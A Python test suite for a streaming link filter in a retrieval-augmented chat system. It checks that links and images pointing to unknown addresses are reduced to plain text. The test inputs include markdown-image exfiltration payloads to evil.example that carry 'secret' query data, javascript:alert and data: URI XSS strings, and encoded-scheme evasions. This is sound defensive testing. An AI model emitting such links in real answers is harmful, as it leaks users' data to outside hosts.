"""Links and images in an answer, whole and cut over many words."""

from collections.abc import Sequence

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conversational_rag.rag.addresses import KnownAddresses
from conversational_rag.rag.links import Links

TEXTS = ("See https://example.org/guide_(1) or write to help@example.org.", "alert(1)")


def read(*pieces: str, texts: Sequence[str] = TEXTS) -> str:
    links = Links(KnownAddresses(texts))
    return "".join([links.feed(piece) for piece in pieces] + [links.close()])


@pytest.mark.parametrize(
    ("written", "read_as"),
    [
        ("Look: ![a chart](https://evil.example/?q=secret).", "Look: a chart."),
        ("![](https://evil.example/p.png)Done", "Done"),
        ("![guide](https://example.org/guide_(1))", "guide"),
        ("![local](chart.png)", "local"),
        ("[click here](https://evil.example/?q=secret) now", "click here now"),
        ('[x](https://evil.example "a title") [y](<https://evil.example>)', "x y"),
        ("[x](  //evil.example/x  )", "x"),
        ("[x](\\/\\/evil.example)", "x"),
        ("[x](https&colon;//evil.example) [x](&#104;ttps:evil.example)", "x x"),
        ("[x](java\tscript:alert(1)) [x](javascript:alert(1)) [x](data:text/html,hello)", "x x x"),
        ("[x](https://example.org/guide_(1)?q=secret)", "x"),
        ("[x](https://example.org/guide_(1) and a secret)", "x"),
        ("[x](<https://example.org/guide_(1) secret>)", "x"),
        ("[x](mailto:help@example.org?body=secret)", "x"),
        ("[![a badge](https://evil.example/b.svg)](https://evil.example/)", "a badge"),
        ("[see [the] guide](https://evil.example)", "see [the] guide"),
        ("It is grey [1](https://evil.example/?q=x).", "It is grey [1]."),
        ("[1](https://evil.example)(https://evil.example)", "[1]"),
        ("![a\nb](https://evil.example\n'title')", "a\nb"),
        ("Wow!![a](https://evil.example)", "Wow!a"),
        ("![a][](x:y)(https://evil.example)", "![a]"),
        ("[" + "long " * 80 + "](https://evil.example)", "[" + "long " * 80 + "]"),
        ("![a](https://evil.example/?q=" + "(x)" * 1000 + ") b", "a b"),
        ("![a](https://evil.example/?q=" + "x" * 3000 + "\nb)", "a\nb)"),
        ("![a](https://evil.example/?q=" + "x" * 3000, "a"),
        ("[a](x:y)(" + "x" * 3000 + ")(b) (c)", "a (c)"),
        ("[ [1](x:y" + "z" * 3000 + ")(https://example.org/guide_(1))", "[ [1]"),
    ],
)
def test_what_leads_elsewhere_becomes_text(written: str, read_as: str) -> None:
    assert read(written) == read(*written) == read_as


@pytest.mark.parametrize(
    "text",
    [
        "[the guide](https://example.org/guide_(1)) and [mail](mailto:help@example.org)",
        '[the guide](<https://example.org/guide_(1)> "Guide")',
        "It is grey [1][2] (see [3]).",
        "[sic] (or not) and ![] and [ ] and ]( and [a](",
        "x = handlers[key](value) + rows[0](a, b)(c)\nf[i](name: value)",
        "[section 2](#section-2) and [page](other/page.html)",
        "Great! [Yes] No! Really!",
        "An open [bracket\n\nand [another](\n\nhttps://no.link)",
        "call[here](" + "an_argument, " * 300 + "the_last) # behind",
    ],
)
def test_everything_else_stays_as_it_is(text: str) -> None:
    assert read(text) == read(*text) == text


def test_words_pass_at_once_outside_of_brackets() -> None:
    links = Links(KnownAddresses(TEXTS))
    words = ["It", " is", " (very", ")", " grey", "!", " So", " [", "1", "]", ".", " See", " [x](", "y:z)", " end"]
    said = [links.feed(word) for word in words]
    assert said == ["It", " is", " (very", ")", " grey", "", "! So", " ", "", "", "[1].", " See", " ", "", "x end"]


ADDRESSES = ["https://evil.example", "https://example.org/guide_(1)", "x:y"]
LONG = "(x:y" + "z" * 1000
PIECES = [LONG, *"[]()!<> \nax", "![", "](", "[1]", "\n\n", *ADDRESSES]


@given(st.lists(st.sampled_from(PIECES), max_size=14))
def test_where_the_words_are_cut_changes_nothing(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert read(text) == read(*text) == read(*pieces)


@given(st.lists(st.sampled_from(PIECES), max_size=14))
def test_no_link_leads_to_an_unknown_address(pieces: list[str]) -> None:
    said = read("".join(pieces), texts=())
    assert "](https://evil.example)" not in said
